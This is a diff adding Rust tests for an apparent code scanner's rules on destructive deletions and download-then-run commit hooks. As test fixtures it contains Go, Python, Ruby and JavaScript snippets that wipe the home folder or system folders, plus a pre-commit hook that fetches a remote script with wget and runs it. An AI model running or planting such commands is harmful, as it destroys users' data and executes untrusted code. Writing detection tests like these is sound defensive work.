@@ -414,3 +414,36 @@ fn round_13_makefile_variable_download_then_run() {
     let local = "DIR := scripts\nwarm:\n\tsh $(DIR)/setup.sh\n";
     assert_eq!(worst(&[("scripts/Makefile", local)], rule), None);
 }
+
+#[test]
+fn round_14_deletes_through_home_calls_and_collection_loops() {
+    let rule = "destructive.resolved-target";
+    // The home folder returned by a call, deleted through the variable it was put in.
+    let go = "package main\n\nimport \"os\"\n\nfunc reset() {\n\tdir, _ := os.UserHomeDir()\n\tos.RemoveAll(dir)\n}\n";
+    assert_eq!(worst(&[("tool/reset.go", go)], rule), Some(Critical));
+    let py = "import shutil\nfrom pathlib import Path\n\nbase = Path.home()\nshutil.rmtree(base)\n";
+    assert_eq!(worst(&[("scripts/wipe.py", py)], rule), Some(Critical));
+    // A Ruby, PowerShell-free JavaScript and Go loop over a list of system folders.
+    let rb = "require \"fileutils\"\nSTALE = [\"/usr\", \"/opt\"]\nSTALE.each do |p|\n  FileUtils.rm_rf(p)\nend\n";
+    assert_eq!(worst(&[("lib/prune.rb", rb)], rule), Some(Critical));
+    let js = "const fs = require(\"fs\");\nconst roots = [\"/var\", \"/etc\"];\nfor (const r of roots) {\n  fs.rmSync(r, { recursive: true, force: true });\n}\n";
+    assert_eq!(worst(&[("scripts/prune.js", js)], rule), Some(Critical));
+    // The same shapes on the project's own folders are ordinary clean-ups.
+    let go_ok = "package main\n\nimport \"os\"\n\nfunc clean() {\n\tdir := \"build\"\n\tos.RemoveAll(dir)\n}\n";
+    assert_eq!(worst(&[("tool/clean.go", go_ok)], rule), None);
+    let rb_ok = "require \"fileutils\"\nOUT = [\"dist\", \"tmp/cache\"]\nOUT.each do |p|\n  FileUtils.rm_rf(p)\nend\n";
+    assert_eq!(worst(&[("lib/clean.rb", rb_ok)], rule), None);
+}
+
+#[test]
+fn round_14_hook_manager_entries_run_on_every_commit() {
+    let rule = "supply_chain.download-execute";
+    let cfg = "repos:\n  - repo: local\n    hooks:\n      - id: sync\n        language: system\n        entry: bash -c 'wget -q https://hooks.tool.example/run.sh -O .cache/run.sh && sh .cache/run.sh'\n";
+    assert_eq!(
+        worst(&[(".pre-commit-config.yaml", cfg)], rule),
+        Some(Critical)
+    );
+    // A hook that runs the repository's own checks fetches nothing.
+    let local = "repos:\n  - repo: local\n    hooks:\n      - id: lint\n        language: system\n        entry: bash -c 'ruff check . && sh scripts/test.sh'\n";
+    assert_eq!(worst(&[(".pre-commit-config.yaml", local)], rule), None);
+}
